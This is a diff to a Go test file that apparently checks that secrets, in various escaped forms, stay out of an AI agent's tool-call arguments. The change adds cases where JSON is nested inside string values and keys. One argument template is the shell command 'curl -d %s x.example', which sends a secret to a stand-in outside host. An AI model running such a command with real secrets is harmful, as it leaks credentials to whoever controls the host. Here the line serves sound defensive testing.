@@ -44,19 +44,30 @@ func escapedForms(secret string) map[string]string {
 }
 
 // argumentPlaces put a JSON string's content in arguments: as a value and as
-// a key, at the top level and nested in objects and arrays.
-var argumentPlaces = map[string]string{
-	"value":                   `{"command":"curl -d %s x.example"}`,
-	"whole value":             `{"command":"%s"}`,
-	"key":                     `{"%s":"x"}`,
-	"key beside others":       `{"a":1,"%s":true,"b":null}`,
-	"nested object value":     `{"outer":{"inner":{"k":"%s"}},"n":2}`,
-	"nested object key":       `{"outer":{"%s":{"c":"d"}}}`,
-	"array element":           `{"env":["A=1","%s"]}`,
-	"array of arrays":         `[[["x"],["%s"]]]`,
-	"object in array in obj":  `{"list":[{"k":"v"},{"k":"%s"}]}`,
-	"bare string arguments":   `"%s"`,
-	"after escaped neighbour": `{"a":"say \"hi\"\n","b":"%s"}`,
+// a key, at the top level and nested in objects and arrays, and in a value
+// that is JSON itself, which a tool that passes it on decodes again.
+var argumentPlaces = map[string]func(content string) string{
+	"value":                   sprintf(`{"command":"curl -d %s x.example"}`),
+	"whole value":             sprintf(`{"command":"%s"}`),
+	"key":                     sprintf(`{"%s":"x"}`),
+	"key beside others":       sprintf(`{"a":1,"%s":true,"b":null}`),
+	"nested object value":     sprintf(`{"outer":{"inner":{"k":"%s"}},"n":2}`),
+	"nested object key":       sprintf(`{"outer":{"%s":{"c":"d"}}}`),
+	"array element":           sprintf(`{"env":["A=1","%s"]}`),
+	"array of arrays":         sprintf(`[[["x"],["%s"]]]`),
+	"object in array in obj":  sprintf(`{"list":[{"k":"v"},{"k":"%s"}]}`),
+	"bare string arguments":   sprintf(`"%s"`),
+	"after escaped neighbour": sprintf(`{"a":"say \"hi\"\n","b":"%s"}`),
+	"JSON in a value": func(content string) string {
+		return `{"tool":"bash","arguments":` + quote(`{"command":"`+content+`"}`) + `}`
+	},
+	"JSON in JSON in a key": func(content string) string {
+		return `{` + quote(`{"k":`+quote(`["`+content+`"]`)+`}`) + `:1}`
+	},
+}
+
+func sprintf(template string) func(string) string {
+	return func(content string) string { return fmt.Sprintf(template, content) }
 }
 
 // argumentCase is a secret hidden in a call's arguments.
@@ -71,8 +82,8 @@ func argumentCases(t *testing.T) []argumentCase {
 	for i, secret := range benchSecrets {
 		kind := DefaultSecrets[i].Name
 		for form, content := range escapedForms(secret) {
-			for place, template := range argumentPlaces {
-				args := fmt.Sprintf(template, content)
+			for place, put := range argumentPlaces {
+				args := put(content)
 				if !json.Valid([]byte(args)) {
 					t.Fatalf("%s %s %s: the test's arguments are not JSON: %s", kind, form, place, args)
 				}
@@ -160,10 +171,14 @@ func assertNoSecretDecodes(t *testing.T, args string) {
 }
 
 // decodedStrings are the keys and string values of a value encoding/json
-// decoded into an any.
+// decoded into an any, and those of a string that decodes as JSON in turn.
 func decodedStrings(v any) []string {
 	switch v := v.(type) {
 	case string:
+		var inner any
+		if json.Unmarshal([]byte(v), &inner) == nil {
+			return append([]string{v}, decodedStrings(inner)...)
+		}
 		return []string{v}
 	case []any:
 		var out []string
